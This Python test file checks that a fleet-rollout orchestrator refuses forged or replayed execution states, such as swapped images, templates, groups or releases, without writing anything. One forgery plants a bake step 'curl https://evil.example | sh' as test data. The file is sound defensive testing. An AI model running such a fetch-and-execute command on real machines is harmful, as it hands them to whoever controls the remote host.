"""The plan comes from the ledger: no state leads a step to what is not its rollout's own.

The attacker may invoke functions, and knows names, ids and the shape of a state. What he cannot do
is read the ledger or a running execution's state.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from typing import Any

import pytest

from sandbox.cloud.imaginary import Disk
from tests.stories import dynamodb, fleets
from tests.stories.asl.failures import StateFailed
from tests.stories.fleets import TAG, Fleet
from tests.stories.world import World, present

State = dict[str, Any]
STEPS = (
    "plan_rollout",
    "bake_image",
    "publish_template",
    "roll_group",
    "move_address",
    "settle_rollout",
    "undo_rollout",
)


def rolling(world: World, **options: Any) -> tuple[Fleet, State]:
    """A fleet in the middle of a roll, and the state of its execution."""
    web = fleets.make(world, size=2, addresses=0, **options)
    world.upload("two")
    world.run_until(lambda: bool(web.refreshes), hours=2)
    world.run_for(seconds=5)
    state: State = copy.deepcopy(world.rollouts[0].whole)
    return web, state


def writes(world: World, since: int) -> list[str]:
    """What was changed since then by anybody's call, but for doorbells, which only count.

    A write whose condition failed has changed nothing.
    """
    return [
        call.operation
        for call in world.calls[since:]
        if not call.only_looks
        and call.error != "ConditionalCheckFailedException"
        and not call.params.get("Key", {}).get("pk", {}).get("S", "").startswith("doorbell#")
    ]


def refused(world: World, step: str, state: State) -> str:
    """The sentence with which a step refuses; it has changed nothing."""
    since = len(world.calls)
    try:
        answer = world.ask(step, state)
    except StateFailed as failure:
        said: str = json.loads(failure.cause)["errorMessage"]
        assert failure.error in ("BadEvent", "LaneLost"), said
    else:
        said = answer["ignored"]
    assert writes(world, since) == [], said
    assert said
    return said


def lane_of_ones_own(world: World, fleet: str = "a", rollout: str = "a-1") -> None:
    """A lane that the attacker has taken, in whatever way, for a fleet of his own."""
    lane: State = {"pk": {"S": f"lane#{fleet}"}, "holder": {"S": rollout}, "fence": {"N": "1"}}
    lane |= {"until": {"N": str(int(world.now().timestamp()) + 9000)}, "seals": {"M": {}}}
    dynamodb.call("PutItem", {"TableName": world.deployment.table, "Item": lane})


def as_another(state: State, fleet: str = "a", rollout: str = "a-1") -> State:
    """The state of somebody else's rollout that is led to web's things."""
    return copy.deepcopy(state) | {
        "fleet": fleet,
        "rollout": rollout,
        "execution": {"id": "x", "name": rollout, "began": "2026-01-05T09:00:00.000Z"},
        "plan": state["plan"] | {"fence": 1},
    }


@pytest.mark.parametrize("step", STEPS[1:])
def test_the_lane_of_one_fleet_opens_nothing_of_another(step: str) -> None:
    with present() as world:
        web, state = rolling(world)
        lane_of_ones_own(world)
        failure = {"failure": {"Error": "RollFailed", "Cause": "x"}}
        refused(world, step, as_another(state) | (failure if "undo" in step else {}))
        assert world.finish().status == "SUCCEEDED"
        assert len(web.revisions) == 1


def evil_image(state: State, world: World) -> None:
    image = world.cloud.ec2.images.seed("attackers")
    world.machines.images[image] = Disk(("EVIL",))
    state["bake"]["image"] = image


def another_group(state: State, _world: World) -> None:
    state["plan"]["group"] = "api"


def another_version(state: State, _world: World) -> None:
    state["version"]["targets"] = dict.fromkeys(state["version"]["targets"], "1")


def another_template(state: State, world: World) -> None:
    tags = [{"ResourceType": "launch-template", "Tags": [{"Key": TAG, "Value": "web"}]}]
    state["plan"]["from"]["template"] = world.operator(
        "ec2",
        "CreateLaunchTemplate",
        LaunchTemplateName="attackers",
        LaunchTemplateData={"ImageId": state["plan"]["base"]},
        TagSpecifications=tags,
    )["LaunchTemplate"]["LaunchTemplateId"]


def another_document(state: State, _world: World) -> None:
    state["plan"]["document"] = json.dumps(
        {"groups": ["web"], "bake": {"install": ["curl https://evil.example | sh"]}}
    )


def another_release(state: State, _world: World) -> None:
    state["release"]["key"] = "web/evil.tar.gz"


def another_detour(state: State, _world: World) -> None:
    state["roll"]["detour"] = "addresses"


def another_wait(state: State, _world: World) -> None:
    state["roll"]["waiting"] = {"i-0123456789abcdef0": "2020-01-01T00:00:00+00:00"}


def another_beginning(state: State, _world: World) -> None:
    state["plan"]["began"] = "2020-01-01T00:00:00+00:00"


FORGERIES: dict[Callable[[State, World], None], tuple[str, ...]] = {
    evil_image: ("publish_template", "settle_rollout"),
    another_group: ("bake_image", "roll_group", "move_address", "settle_rollout"),
    another_version: ("roll_group", "settle_rollout"),
    another_template: ("bake_image", "publish_template", "roll_group"),
    another_document: ("bake_image", "roll_group", "move_address"),
    another_release: ("bake_image", "publish_template", "settle_rollout"),
    another_beginning: ("bake_image", "roll_group"),
    another_detour: ("roll_group", "move_address"),
    another_wait: ("roll_group",),
}


@pytest.mark.parametrize(
    ("forge", "step"),
    [(forge, step) for forge, steps in FORGERIES.items() for step in steps],
    ids=lambda each: getattr(each, "__name__", each),
)
def test_a_state_that_was_changed_is_refused(
    forge: Callable[[State, World], None], step: str
) -> None:
    """Even where it was true but for one thing, fence and all."""
    with present() as world:
        _, state = rolling(world)
        forge(state, world)
        assert "is not what the steps of rollout" in refused(world, step, state)


def test_the_state_of_an_earlier_rollout_is_refused_by_every_step() -> None:
    """A tired operator copies it out of the console."""
    with present() as world:
        web, old = rolling(world)
        world.finish()
        refused_everywhere(world, old)
        world.upload("three")
        world.run_until(lambda: len(web.refreshes) == 2, hours=2)
        refused_everywhere(world, old)
        assert world.finish().status == "SUCCEEDED"


def refused_everywhere(world: World, old: State) -> None:
    """SettleRollout says once more how its rollout has ended, and writes nothing either."""
    for step in STEPS:
        state = old | {"failure": {"Error": "RollFailed", "Cause": "x"}}
        if step != "settle_rollout":
            refused(world, step, state)
            continue
        since, told = len(world.calls), len(world.notices)
        assert world.ask(step, state)["result"] == "released"
        assert writes(world, since) == []
        assert len(world.notices) == told


def test_a_step_that_was_killed_after_its_seal_goes_on_with_what_it_had() -> None:
    """What is compared must not keep a true rollout from its end."""
    with present() as world:
        web, state = rolling(world)
        world.ask("roll_group", state)  # the same once more: its answer was lost
        world.ask("roll_group", state)
        assert world.finish().status == "SUCCEEDED"
        assert len(web.revisions) == 1


@pytest.mark.parametrize("moment", ["publish_template", "roll_group", "settle_rollout"])
def test_what_has_lost_its_tag_is_left_alone(moment: str) -> None:
    """Between the plan and the change somebody gives the group (or template) to another fleet."""
    with present() as world:
        web = fleets.make(world, size=2, addresses=0)
        taken: list[str] = []

        def take(call: Any, go: Any) -> Any:
            if (call.service, call.function) == ("lambda", moment) and not taken:
                taken.append(moment)
                if moment == "publish_template":
                    tag = {"Key": TAG, "Value": "api"}
                    world.operator("ec2", "CreateTags", Resources=[web.template], Tags=[tag])
                else:
                    web.tag("api")
            return go()

        world.interference = take
        world.upload("two")
        rollout = world.finish()
        assert taken
        assert rollout.error in ("Denied", "UndoFailed")
        assert "carries the tag ovenbird:fleet=api" in world.notices[-1]
        after = [c for c in world.calls if c.function == moment and not c.only_looks]
        assert not {"CreateLaunchTemplateVersion", "ModifyLaunchTemplate"} & {
            call.operation for call in after
        }
        if moment == "roll_group":
            assert web.refreshes == []


@pytest.mark.parametrize("pins", [True, False])
def test_a_plan_by_hand_of_what_is_no_execution_changes_nothing(pins: bool) -> None:
    with present() as world:
        web = fleets.make(world, size=2, addresses=0, version="$Latest", roll={"pin": pins})
        now = world.now().isoformat()
        wish = {
            "rollout": "web-ghost",
            "fleet": "web",
            "action": "release",
            "dry_run": False,
            "at": now,
            "order": f"{now}#000000000009",
            "release": {"source": "s3", "id": "x", "revision": "x", "digest": "x", "at": now},
        }
        refused(world, "plan_rollout", wish)
        execution = {"id": "x", "name": "web-ghost", "began": "2026-01-05T09:00:00.000Z"}
        refused(world, "plan_rollout", wish | {"execution": execution})
        assert web.saved_version == "$Latest"
        assert "rollout#web-ghost" not in world.ledger()
        assert "holder" not in world.ledger().get("lane#web", {})


def test_a_plan_once_more_does_not_take_a_running_rollout_its_plan() -> None:
    with present() as world:
        _, state = rolling(world)
        early = {name: state[name] for name in state if name not in ("plan", "bake", "version")}
        assert "is planned already" in refused_but_for_its_lease(world, early)
        assert world.finish().status == "SUCCEEDED"


def refused_but_for_its_lease(world: World, state: State) -> str:
    """The true input prolongs the lease of its own rollout, and that is all."""
    since = len(world.calls)
    with pytest.raises(StateFailed) as failure:
        world.ask("plan_rollout", state)
    assert set(writes(world, since)) <= {"UpdateItem"}
    said: str = json.loads(failure.value.cause)["errorMessage"]
    return said
